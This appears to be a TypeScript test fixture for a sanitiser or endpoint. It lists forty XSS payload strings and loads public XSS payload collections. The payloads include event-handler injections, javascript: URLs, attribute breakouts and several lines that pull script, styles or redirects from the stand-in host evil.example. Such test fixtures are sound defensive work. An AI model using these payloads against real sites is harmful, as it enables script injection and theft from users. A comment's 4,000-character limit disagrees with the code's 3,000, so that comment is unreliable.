// Texts that try to become markup or script: forty of our own, and the collections of
// `../shared/corpora/security/xss` where that folder is there.
import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { ROOT } from '../../scripts/local/process.ts'

const FOLDER = join(ROOT, '../shared/corpora/security/xss')
const LISTS = [
  'payloadbox-xss.txt',
  'patt-MarioXSSVectors.txt',
  'patt-BRUTELOGIC-XSS-STRINGS.txt',
  'patt-XSS_Polyglots.txt',
]

/** Every way in we know of at least once; each calls `canary()` or `alert()` if it gets through. */
export const OWN_PAYLOADS: readonly string[] = [
  '<script>canary()</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=canary()>',
  '<img src=//evil.example/pixel.png>',
  '<svg onload=canary()>',
  '<svg><script>canary()</script></svg>',
  '<svg><animate onbegin=canary() attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=canary()>',
  '<iframe src=javascript:canary()></iframe>',
  '<iframe srcdoc="<script>parent.canary()</script>"></iframe>',
  '<object data=javascript:canary()></object>',
  '<embed src=//evil.example/x.svg>',
  '<a href=javascript:canary()>x</a>',
  '<form action=javascript:canary()><button>x</button></form>',
  '<details open ontoggle=canary()>',
  '<input autofocus onfocus=canary()>',
  '<video><source onerror=canary()></video>',
  '<style>@import "//evil.example/x.css"</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<template><script>canary()</script></template>',
  '</textarea><script>canary()</script>',
  '</title><script>canary()</script>',
  '</script><script>canary()</script>',
  '--><script>canary()</script>',
  ']]><script>canary()</script>',
  '"><script>canary()</script>',
  "' onmouseover=canary() x='",
  '" autofocus onfocus=canary() x="',
  '`onmouseover=canary()`',
  'javascript:canary()',
  'JaVaScRiPt:canary()',
  ' \u0001javascript:canary()',
  'java\u200bscript:canary() data:text/html,<script>canary()</script>',
  'https://ok.example/"onmouseover="canary()',
  'https://ok.example/<script>canary()</script>',
  'mailto:a@b.example?subject=<img src=x onerror=canary()> tel:+1<script>canary()</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: templates are what it is about
  '{{constructor.constructor("canary()")()}} ${canary()} <%= canary() %>',
  '&lt;script&gt;canary()&lt;/script&gt; &#60;img src=x onerror=canary()&#62; \u202e\u2028<script>canary()</script>',
]

/** All collections, each text once; empty where the folder is not there. */
export function corpusPayloads(): string[] {
  if (!existsSync(FOLDER)) return []
  const listed = LISTS.flatMap((name) => readFileSync(join(FOLDER, name), 'utf8').split('\n'))
  const expected = JSON.parse(readFileSync(join(FOLDER, 'dompurify-expect.json'), 'utf8'))
  const texts = [...expected.map(({ payload }: { payload: string }) => payload), ...listed]
  // What an endpoint keeps of a text: no NUL, no blanks around it, 4,000 characters.
  const kept = texts.map((text) => text.replaceAll('\0', '\ufffd').trim().slice(0, 3000))
  return [...new Set(kept)].filter((text) => text !== '')
}
